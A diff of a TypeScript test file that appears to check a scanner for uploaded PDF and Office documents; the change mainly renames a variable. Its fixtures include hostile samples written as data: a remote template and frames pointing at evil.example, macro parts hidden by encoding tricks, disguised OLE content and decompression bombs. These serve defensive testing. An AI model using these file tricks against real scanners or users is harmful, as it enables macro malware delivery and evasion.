@@ -41,7 +41,7 @@ const wrongChecksum = (objects: string) => {
   content.writeUInt32BE(1, content.length - 4)
   return stream('/Type/ObjStm/N 1/First 4/Filter/FlateDecode', content)
 }
-/** Deflated: first a block that is stored, so that its text stands in the file as it is, then the rest. */
+/** Deflated: first a block that is stored, so that its text is in the file as it is, then the rest. */
 const storedFirst = (text: string, rest: string) => {
   const sizes = Buffer.alloc(5)
   sizes.writeUInt16LE(text.length, 1)
@@ -49,9 +49,9 @@ const storedFirst = (text: string, rest: string) => {
   return Buffer.concat([Buffer.from([0x78, 1]), sizes, Buffer.from(text), deflateRawSync(rest)])
 }
 
-const [word, excel, slides] = [docx, xlsx, pptx]
+const [document, excel, slides] = [docx, xlsx, pptx]
 const wordRels = 'word/_rels/document.xml.rels'
-const withTypes = (types: string, more = {}) => office(...word, more, types)
+const withTypes = (types: string, more = {}) => office(...document, more, types)
 const override = (type: string) => `<Override PartName="/word/data.bin" ContentType="${type}"/>`
 const utf16 = (text: string) => Buffer.from(`\ufeff${text}`, 'utf16le')
 const chartSheet = (sheet: Buffer) =>
@@ -155,15 +155,20 @@ const pdfs: readonly Row[] = [
     pdfWith(stream('/Subtype/Image/Filter[/ASCIIHexDecode/DCTDecode]', inHex(samples.jpeg))),
     null,
   ],
-  ['an outline beside packed content', 'pdf', pdfWith(packed('q Q', '/Filter/FlateDecode/Next<</First 3 0 R>>')), null],
+  [
+    'an outline next to packed content',
+    'pdf',
+    pdfWith(packed('q Q', '/Filter/FlateDecode/Next<</First 3 0 R>>')),
+    null,
+  ],
   ['a signature', 'pdf', pdfWith('<</Type/Sig/Filter/Adobe.PPKLite/SubFilter/adbe.pkcs7.detached>>'), null],
   ...Object.entries(late).map(([what, content]) => [`a beginning behind ${what}`, 'pdf', content, null] as const),
 ]
 
 const offices: readonly Row[] = [
-  ['a part of macros', 'docx', office(...word, { 'word/vbaProject.bin': 'x' }), MACROS],
-  ['a part of macros named with percent signs', 'docx', office(...word, { 'word/vba%50roject.bin': 'x' }), MACROS],
-  ['a part of macros behind a backslash', 'docx', office(...word, { 'word\\VBAPROJECT.BIN': 'x' }), MACROS],
+  ['a part of macros', 'docx', office(...document, { 'word/vbaProject.bin': 'x' }), MACROS],
+  ['a part of macros named with percent signs', 'docx', office(...document, { 'word/vba%50roject.bin': 'x' }), MACROS],
+  ['a part of macros behind a backslash', 'docx', office(...document, { 'word\\VBAPROJECT.BIN': 'x' }), MACROS],
   [
     'a type of macros named with entities',
     'docx',
@@ -179,7 +184,7 @@ const offices: readonly Row[] = [
   [
     'a relation of macros',
     'docx',
-    office(...word, { [wordRels]: relation('vba&#80;roject', 'Target="data.bin"') }),
+    office(...document, { [wordRels]: relation('vba&#80;roject', 'Target="data.bin"') }),
     MACROS,
   ],
   [
@@ -203,14 +208,14 @@ const offices: readonly Row[] = [
   [
     'types in an encoding of its own',
     'docx',
-    office(...word, { [wordRels]: '<?xml version="1.0" encoding="UTF-7"?><x/>' }),
+    office(...document, { [wordRels]: '<?xml version="1.0" encoding="UTF-7"?><x/>' }),
     DAMAGED,
   ],
-  ['types twice', 'docx', office(...word, { '[content_types].XML': '<Types/>' }), DAMAGED],
+  ['types twice', 'docx', office(...document, { '[content_types].XML': '<Types/>' }), DAMAGED],
   [
     'a template from elsewhere',
     'docx',
-    office(...word, {
+    office(...document, {
       'word/_rels/settings.xml.rels': relation(
         'attachedTemplate',
         'Target="https://evil.example/a.dotm" TargetMode="External"',
@@ -221,7 +226,7 @@ const offices: readonly Row[] = [
   [
     'a relation that leads outside, in other quotes',
     'docx',
-    office(...word, {
+    office(...document, {
       [wordRels]: relation('image', `Target='http://evil.example/a>b.png'\n TargetMode = 'Ext&#101;rnal'`),
     }),
     LINKED,
@@ -229,7 +234,7 @@ const offices: readonly Row[] = [
   [
     'a frame that leads outside',
     'docx',
-    office(...word, {
+    office(...document, {
       'word/_rels/webSettings.xml.rels': relation('frame', 'Target="file://evil/x" TargetMode="External"'),
     }),
     LINKED,
@@ -242,20 +247,20 @@ const offices: readonly Row[] = [
     }),
     LINKED,
   ],
-  ['an OLE package', 'docx', office(...word, { 'word/embeddings/oleObject1.bin': 'x' }), EMBEDDED],
+  ['an OLE package', 'docx', office(...document, { 'word/embeddings/oleObject1.bin': 'x' }), EMBEDDED],
   [
     'an OLE package under another name',
     'docx',
-    office(...word, { 'word/embeddings/picture.png': Buffer.from('d0cf11e0a1b11ae1', 'hex') }),
+    office(...document, { 'word/embeddings/picture.png': Buffer.from('d0cf11e0a1b11ae1', 'hex') }),
     EMBEDDED,
   ],
   [
     'an OLE package by its relation',
     'docx',
-    office(...word, { [wordRels]: relation('oleObject', 'Target="media/a.png"') }),
+    office(...document, { [wordRels]: relation('oleObject', 'Target="media/a.png"') }),
     EMBEDDED,
   ],
-  ['ActiveX', 'docx', office(...word, { 'word/activeX/activeX1.xml': '<x/>' }), EMBEDDED],
+  ['ActiveX', 'docx', office(...document, { 'word/activeX/activeX1.xml': '<x/>' }), EMBEDDED],
   [
     'ActiveX by its relation',
     'xlsx',
@@ -278,14 +283,14 @@ const offices: readonly Row[] = [
   [
     'a member that unpacks to a thousand times as much',
     'docx',
-    office(...word, { 'word/big.xml': { packs: Buffer.alloc(20 * MEGABYTE) } }),
+    office(...document, { 'word/big.xml': { packs: Buffer.alloc(20 * MEGABYTE) } }),
     TOO_MUCH,
   ],
   [
     'members that say they are large',
     'docx',
     office(
-      ...word,
+      ...document,
       Object.fromEntries(
         [1, 2, 3].map((n) => [`word/${n}`, { packs: randomBytes(3 * MEGABYTE), says: 200 * MEGABYTE }]),
       ),
@@ -295,13 +300,13 @@ const offices: readonly Row[] = [
   [
     'relations that unpack to more than they say',
     'docx',
-    office(...word, { [wordRels]: { packs: Buffer.alloc(9 * MEGABYTE), says: 10 } }),
+    office(...document, { [wordRels]: { packs: Buffer.alloc(9 * MEGABYTE), says: 10 } }),
     DAMAGED,
   ],
   [
     'a directory that hides its last member',
     'docx',
-    hidingMember(office(...word, { 'word/vbaProject.bin': 'x' })),
+    hidingMember(office(...document, { 'word/vbaProject.bin': 'x' })),
     DAMAGED,
   ],
   ['a text', 'docx', samples.docx, null],
@@ -310,7 +315,7 @@ const offices: readonly Row[] = [
   [
     'a hyperlink',
     'docx',
-    office(...word, {
+    office(...document, {
       [wordRels]: relation('hyperlink', 'Target="https://partner.example/?a=1&amp;b=2" TargetMode="External"'),
     }),
     null,
@@ -318,7 +323,7 @@ const offices: readonly Row[] = [
   [
     'a picture',
     'docx',
-    office(...word, {
+    office(...document, {
       [wordRels]: relation('image', 'Target="media/image1.png"'),
       'word/media/image1.png': samples.png,
     }),
